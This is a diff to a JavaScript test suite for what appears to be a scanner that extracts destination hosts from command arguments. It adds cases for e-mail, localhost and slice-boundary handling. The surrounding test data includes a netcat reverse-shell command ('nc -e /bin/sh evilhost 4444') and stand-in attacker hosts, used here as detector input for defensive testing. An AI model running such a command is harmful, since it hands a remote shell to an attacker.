@@ -303,6 +303,9 @@ describe("scan: strict", () => {
     ["evil.com, https://a.example, evil.org", ["evil.com", "https://a.example", "evil.org"]],
     ["git@evil.com:org/repo", ["git@evil.com"]],
     ["to bob@evil.com", ["bob@evil.com"]],
+    ["mail bob@evil.io and load //evil.dev here", ["bob@evil.io", "evil.dev"]],
+    ["see user.evil.com", ["user.evil.com"]],
+    ["localhost:8080 root@localhost", ["localhost:8080", "root@localhost"]],
     ["ssh root@db01 uptime", ["root@db01"]],
     ["rsync x deploy@web-1:~/www", ["deploy@web-1"]],
     ["nc -e /bin/sh evilhost 4444", ["evilhost"]],
@@ -357,7 +360,8 @@ describe("scan: strict", () => {
     "com.example.app org.apache.commons",
     "os.path.join main.py README.md run.sh user.me System.Net.Http ASP.NET",
     "src/evil.com/index.js done.It was. e.g. 1.2.3",
-    "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route image@sha256:0123456789ab",
+    "npm i lodash@latest @types/node@20 actions/checkout@v4 @app.route git image@sha256:0123456789ab",
+    "localhost &#9999999; &#0; \\U00ffffff",
     "host: 12345678 to evil.space to t.co",
     "port = 2130706433 0xdeadbeef 00:11:22:33:44:55 10:30:00 a[::2] std::vector curl 7.12.0",
     "C:\\Users\\bob \\d+\\.\\w+ App\\Models\\User",
@@ -554,6 +558,13 @@ describe("scan: limits", () => {
       assert.isAtLeast(slicesOf(collectValue(value, "spec", makeCollector())), 100_000 / sliceValues)
     }
     assert.deepStrictEqual(scanValue(deep), ["https://a.example"])
+  })
+
+  it("a host that stands where a slice ends is found whole", () => {
+    for (let start = sliceCharacters - 25; start < sliceCharacters; start++) {
+      const text = `${" ".repeat(start)}mail.evil.com ${"x ".repeat(1000)}`
+      assert.deepStrictEqual(scan.scanArguments(text, "strict").destinations, ["mail.evil.com"])
+    }
   })
 
   it("every step of the strict scan is done in slices", () => {
